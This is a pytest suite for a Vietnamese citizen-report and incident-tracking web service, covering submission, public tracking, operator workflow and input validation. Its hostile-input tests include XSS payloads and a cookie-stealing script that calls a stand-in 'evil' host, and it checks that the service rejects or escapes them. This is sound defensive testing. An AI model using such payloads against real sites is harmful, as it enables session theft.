"""Citizen reports against the running server and its demo database: submitted, tracked publicly
without personal data (page, JSON, OGC API), moved through every state by operators with a 409 on an
illegal step, and hostile input refused with nothing stored.

The shared demo database only gains rows here (new reports); demo rows are never changed.
"""

from __future__ import annotations

import base64
import datetime as dt
import http.client
import json
import urllib.error
import urllib.request
import uuid
from email.message import Message
from urllib.parse import urlsplit
from zoneinfo import ZoneInfo

import psycopg
import pytest
from conftest import CHROMIUM_ARGS, ensure_token

from gis_core.settings import Settings
from webmap import create_app
from webmap.map import external_urls

INSIDE = (103.9700, 22.4980)        # Cốc Lếu, Lào Cai ward
HANOI = (105.8342, 21.0278)         # another province
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
       b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND"
       b"\xaeB`\x82")


OPERATOR: dict[str, str] = {}   # the operators' API token header, for the board's pages and JSON


@pytest.fixture(scope="module", autouse=True)
def operator_token(demo_url):
    OPERATOR["Authorization"] = f"Bearer {ensure_token(demo_url, 'operator')}"
    yield
    OPERATOR.clear()


def call(method: str, url: str, body: dict | bytes | None = None,
         headers: dict | None = None) -> tuple[int, Message, bytes]:
    """A request; to the operators' board (/incidents..., /api/incidents...) with the operator's token."""
    data = json.dumps(body).encode() if isinstance(body, dict) else body
    head = {"Content-Type": "application/json"} if isinstance(body, dict) else {}
    if urlsplit(url).path.startswith(("/incidents", "/api/incidents")):
        head.update(OPERATOR)
    request = urllib.request.Request(url, data=data, method=method, headers={**head, **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.headers, response.read()
    except urllib.error.HTTPError as err:
        return err.code, err.headers, err.read()


def multipart(fields: dict[str, str], files: dict[str, tuple[str, str, bytes]]) -> tuple[bytes, str]:
    boundary = uuid.uuid4().hex
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    for name, (filename, ctype, data) in files.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                     f"Content-Type: {ctype}\r\n\r\n".encode() + data + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def report(**overrides) -> dict:
    body = {"category": "infrastructure", "description": "Đèn chiếu sáng công cộng bị hỏng trên đường Hoàng Liên",
            "location": {"type": "Point", "coordinates": list(INSIDE)}, "name": "Lò Thị Thơm",
            "contact": "0912345678"}
    body.update(overrides)
    return {k: v for k, v in body.items() if v is not None}


def counts(url: str) -> tuple[int, int, int]:
    with psycopg.connect(url) as conn:
        return conn.execute("SELECT (SELECT count(*) FROM incidents), (SELECT count(*) FROM incident_photos),"
                            " (SELECT count(*) FROM incident_transitions)").fetchone()


def submit(server: str, **overrides) -> dict:
    status, headers, body = call("POST", f"{server}/api/reports", report(**overrides))
    assert status == 201, body
    receipt = json.loads(body)
    assert headers["Location"] == f"/track/{receipt['ticket_code']}"
    return receipt


def move(server: str, code: str, to: str, **fields) -> tuple[int, dict]:
    status, _, body = call("POST", f"{server}/incidents/{code}/transition", {"to": to, "actor": "trực ban", **fields})
    return status, json.loads(body)


# -- a report's life --------------------------------------------------------------------------------


def test_report_is_stored_routed_and_given_a_ticket_after_the_demo_ones(server, demo_url):
    contact = "0987000111"
    receipt = submit(server, contact=contact)
    code = receipt["ticket_code"]
    assert receipt["status"] == "new" and receipt["commune_code"] == "02647"
    assert receipt["message"]["vi"].startswith("Đã tiếp nhận") and receipt["message"]["en"].startswith("Report")
    with psycopg.connect(demo_url) as conn:
        row = conn.execute("SELECT source, status, reporter_contact, commune_code, due_at - reported_at"
                           " FROM incidents WHERE ticket_code = %s", (code,)).fetchone()
        year, number = code.split("-")[1:]
        highest_demo = conn.execute("SELECT max(substring(ticket_code FROM 9)::int) FROM incidents"
                                    " WHERE data_source = 'generated:demo' AND ticket_code LIKE %s",
                                    (f"PA-{year}-%",)).fetchone()[0]
    assert row[:4] == ("citizen", "new", contact, "02647")
    assert row[4].total_seconds() == 168 * 3600           # infrastructure: a week
    assert int(number) > (highest_demo or 0)


def test_public_tracking_shows_status_and_history_but_never_the_contact(server, demo_url):
    contact, name = "reporter.private@example.vn", "Giàng Seo Páo"
    code = submit(server, contact=contact, name=name)["ticket_code"]

    status, headers, page = call("GET", f"{server}/track/{code}")
    html = page.decode()
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    assert '<html lang="vi">' in html and "Mới tiếp nhận" in html and code in html
    assert html.index("Trạng thái") < html.index("Status")           # Vietnamese first
    assert contact not in html and name not in html
    assert external_urls(html) == [] and "/vendor/bootstrap/" in html

    status, _, body = call("GET", f"{server}/api/track/{code}")
    data = json.loads(body)
    assert status == 200 and data["status"] == "new" and [h["status"] for h in data["history"]] == ["new"]
    assert contact not in body.decode() and name not in body.decode()
    assert not {"reporter_name", "reporter_contact", "id"} & set(data)

    with psycopg.connect(demo_url) as conn:
        incident_id = conn.execute("SELECT id FROM incidents WHERE ticket_code = %s", (code,)).fetchone()[0]
    status, _, item = call("GET", f"{server}/ogc/collections/incidents/items/{incident_id}?f=json")
    assert status == 200 and json.loads(item)["properties"]["ticket_code"] == code
    assert contact not in item.decode() and name not in item.decode()
    status, _, items = call("GET", f"{server}/ogc/collections/incidents/items?f=json&limit=50&sortby=-reported_at")
    assert status == 200 and code in items.decode()
    assert contact not in items.decode() and "reporter_contact" not in items.decode()


def test_operators_move_a_report_through_every_state_and_illegal_steps_get_409(server):
    code = submit(server)["ticket_code"]
    status, body = move(server, code, "resolved", answer="x")       # skipping steps
    assert status == 409 and body["code"] == "Conflict"
    assert move(server, code, "assigned", agency="so_xay_dung", comment="<img src=x onerror=alert(1)>")[0] == 200
    assert move(server, code, "in_progress")[0] == 200
    assert move(server, code, "resolved")[0] == 400                  # the citizen's answer is required
    answer = "Đã thay bóng đèn <b>LED</b> & kiểm tra \"tủ điện\"."
    status, body = move(server, code, "resolved", answer=answer)
    assert status == 200 and body["status"] == "resolved" and body["resolved_at"]
    assert move(server, code, "closed")[0] == 200
    for target in ("new", "assigned", "in_progress", "resolved", "rejected"):
        status, body = move(server, code, target, reason="r", answer="a")
        assert status == 409, (target, body)
        assert "Không thể chuyển" in body["description"]

    page = call("GET", f"{server}/track/{code}")[2].decode()
    assert "Sở Xây dựng" in page
    # the agency's answer, escaped; the operators' internal comment is not public at all
    assert "Đã thay bóng đèn &lt;b&gt;LED&lt;/b&gt; &amp; kiểm tra &#34;tủ điện&#34;." in page
    assert "<b>LED</b>" not in page and "onerror" not in page
    history = json.loads(call("GET", f"{server}/api/track/{code}")[2])["history"]
    assert [h["status"] for h in history] == ["new", "assigned", "in_progress", "resolved", "closed"]

    detail = json.loads(call("GET", f"{server}/api/incidents/{code}")[2])
    assert [h["actor"] for h in detail["history"]] == ["citizen"] + ["token:operator-token"] * 4
    assert detail["history"][1]["comment"] == "<img src=x onerror=alert(1)>"
    # the operators' page shows it as text too
    detail_page = call("GET", f"{server}/incidents/{code}")[2].decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in detail_page and "<img src=x" not in detail_page


def test_rejected_report_shows_its_reason(server):
    code = submit(server, category="other")["ticket_code"]
    assert move(server, code, "rejected")[0] == 400
    assert move(server, code, "rejected", reason="Nội dung không thuộc thẩm quyền giải quyết của tỉnh.")[0] == 200
    page = call("GET", f"{server}/track/{code}")[2].decode()
    assert "Không tiếp nhận" in page and "không thuộc thẩm quyền" in page


def test_form_report_with_a_photo(server, demo_url):
    body, ctype = multipart({"category": "environment", "description": "Bãi rác tự phát ven suối, bốc mùi",
                             "lon": str(INSIDE[0]), "lat": str(INSIDE[1])},
                            {"photo": ("rac.png", "image/png", PNG)})
    status, _, answer = call("POST", f"{server}/api/reports", body, {"Content-Type": ctype})
    assert status == 201, answer
    code = json.loads(answer)["ticket_code"]
    status, headers, data = call("GET", f"{server}/incidents/{code}/photo")
    assert status == 200 and data == PNG and headers["Content-Type"] == "image/png"
    assert headers["X-Content-Type-Options"] == "nosniff"


def test_board_lists_filters_and_highlights_overdue(server):
    code = submit(server, category="fire", description="Cháy thực bì ven đồi sau trường học")["ticket_code"]
    status, _, page = call("GET", f"{server}/incidents?status=new&category=fire")
    html = page.decode()
    assert status == 200 and f'data-ticket="{code}"' in html and external_urls(html) == []
    assert html.index("Điều hành phản ánh") < html.index("Incident board")
    rows = json.loads(call("GET", f"{server}/api/incidents?overdue=1&limit=20")[2])["incidents"]
    assert rows and all(r["overdue"] for r in rows)        # the demo's backlog has overdue ones
    overdue_page = call("GET", f"{server}/incidents?overdue=1&limit=20")[2].decode()
    assert overdue_page.count('class="overdue"') == len(rows)
    assert call("GET", f"{server}/api/incidents?status=bogus")[0] == 400


# -- hostile input: 4xx and nothing stored ------------------------------------------------------


def post_raw(server: str, body: bytes, content_type: str) -> tuple[int, dict]:
    """POST with http.client, reading the answer even if the server refuses before the body is sent."""
    parts = urlsplit(server)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    try:
        conn.putrequest("POST", "/api/reports")
        conn.putheader("Content-Type", content_type)
        conn.putheader("Content-Length", str(len(body)))
        conn.endheaders()
        try:
            for i in range(0, len(body), 1 << 20):
                conn.send(body[i:i + (1 << 20)])
        except (BrokenPipeError, ConnectionResetError):
            pass      # refused early: the answer is already waiting
        response = conn.getresponse()
        return response.status, json.loads(response.read() or b"{}")
    finally:
        conn.close()


@pytest.mark.parametrize("case", ["outside", "script", "missing", "bad_photo_type", "not_json", "bad_contact"])
def test_hostile_report_is_refused_and_nothing_is_stored(server, demo_url, case):
    before = counts(demo_url)
    if case == "outside":
        status, _, body = call("POST", f"{server}/api/reports",
                               report(location={"type": "Point", "coordinates": list(HANOI)}))
        assert status == 400 and "location" in json.loads(body)["fields"]
        assert "ngoài địa bàn tỉnh" in json.loads(body)["fields"]["location"]["vi"]
    elif case == "script":
        status, _, body = call("POST", f"{server}/api/reports",
                               report(description='Đèn hỏng <script>fetch("//evil/"+document.cookie)</script>'))
        assert status == 400 and "description" in json.loads(body)["fields"]
    elif case == "missing":
        status, _, body = call("POST", f"{server}/api/reports", {"contact": "0912345678"})
        fields = json.loads(body)["fields"]
        assert status == 400 and set(fields) == {"category", "description", "location"}
        assert fields["category"]["vi"] and fields["category"]["en"]
    elif case == "bad_photo_type":
        payload, ctype = multipart({"category": "other", "description": "Ảnh đính kèm là tệp thực thi",
                                    "lon": str(INSIDE[0]), "lat": str(INSIDE[1])},
                                   {"photo": ("anh.jpg", "image/jpeg", b"MZ\x90\x00" + b"\0" * 2000)})
        status, _, body = call("POST", f"{server}/api/reports", payload, {"Content-Type": ctype})
        assert status == 415, body
    elif case == "not_json":
        status, _, body = call("POST", f"{server}/api/reports", b"{not json", {"Content-Type": "application/json"})
        assert status == 400
    elif case == "bad_contact":
        status, _, body = call("POST", f"{server}/api/reports", report(contact="<a href=x>call me</a>"))
        assert status == 400 and "contact" in json.loads(body)["fields"]
    assert counts(demo_url) == before


def test_a_50_mb_photo_is_refused_with_413_and_nothing_stored(server, demo_url):
    before = counts(demo_url)
    photo = b"\xff\xd8\xff\xe0" + b"\0" * (50 * 1024 * 1024)
    payload, ctype = multipart({"category": "other", "description": "Ảnh rất lớn gửi kèm phản ánh",
                                "lon": str(INSIDE[0]), "lat": str(INSIDE[1])},
                               {"photo": ("big.jpg", "image/jpeg", photo)})
    status, body = post_raw(server, payload, ctype)
    assert status == 413 and body["code"] == "PayloadTooLarge"
    # the same as base64 inside JSON
    status, body = post_raw(server, json.dumps(report(photo=base64.b64encode(photo).decode())).encode(),
                            "application/json")
    assert status == 413
    assert counts(demo_url) == before


def test_per_client_rate_limit(demo_url, tmp_path, monkeypatch):
    """A Flask test client on the same demo database, with a tight limit: the fourth report in a row
    from one address gets 429 and a Retry-After; another address is not affected."""
    monkeypatch.setenv("IOCGIS_REPORTS_PER_MIN", "1")
    monkeypatch.setenv("IOCGIS_REPORTS_BURST", "3")
    app = create_app(Settings(database_url=demo_url, var_dir=tmp_path))
    client = app.test_client()
    before = counts(demo_url)
    answers = [client.post("/api/reports", json=report(), environ_base={"REMOTE_ADDR": "203.0.113.7"})
               for _ in range(4)]
    assert [a.status_code for a in answers] == [201, 201, 201, 429]
    assert int(answers[3].headers["Retry-After"]) >= 1
    assert "Gửi quá nhiều" in answers[3].get_json()["description"]
    other = client.post("/api/reports", json=report(), environ_base={"REMOTE_ADDR": "203.0.113.8"})
    assert other.status_code == 201
    assert counts(demo_url)[0] == before[0] + 4
    app.extensions["iocgis"]["db"].close()


@pytest.mark.slow
def test_track_and_board_pages_in_a_browser(server, artifacts):
    """The citizen's tracking page and the operators' board, as a browser shows them: Vietnamese
    first, the agency's answer public, the contact nowhere, nothing fetched from outside."""
    from playwright.sync_api import sync_playwright

    receipt = submit(server, description="Cây đổ chắn đường Cốc Lếu & ngõ 5 \"chợ cũ\"", contact="0987654321")
    code = receipt["ticket_code"]
    assert move(server, code, "assigned")[0] == 200
    assert move(server, code, "in_progress")[0] == 200
    assert move(server, code, "resolved", answer="Đội cây xanh đã dọn xong cây đổ.")[0] == 200
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 390, "height": 844})   # a citizen's phone
            requests, errors = [], []
            page.on("request", lambda r: requests.append(r.url))
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.goto(f"{server}/track/{code}", wait_until="networkidle")
            text = page.locator("body").inner_text()
            assert code in text and "Đội cây xanh đã dọn xong cây đổ." in text
            assert 'Cốc Lếu & ngõ 5 "chợ cũ"' in text   # the citizen's words as typed
            local = dt.datetime.now(ZoneInfo("Asia/Ho_Chi_Minh"))
            assert local.strftime("%d/%m/%Y") in text and "+0000" not in text   # Việt Nam time, day first
            assert "0987654321" not in page.content() and "Lò Thị Thơm" not in page.content()
            page.screenshot(path=str(artifacts / "track-phone.png"), full_page=True)

            page = browser.new_page(viewport={"width": 1600, "height": 1000}, extra_http_headers=OPERATOR)
            page.on("request", lambda r: requests.append(r.url))
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.goto(f"{server}/incidents?status=resolved", wait_until="networkidle")
            assert page.locator(f"text={code}").count() >= 1
            page.screenshot(path=str(artifacts / "incidents-board.png"))
        finally:
            browser.close()
    outside = [url for url in requests if urlsplit(url).hostname != "127.0.0.1" and not url.startswith("data:")]
    assert requests and not outside and not errors, (outside, errors)
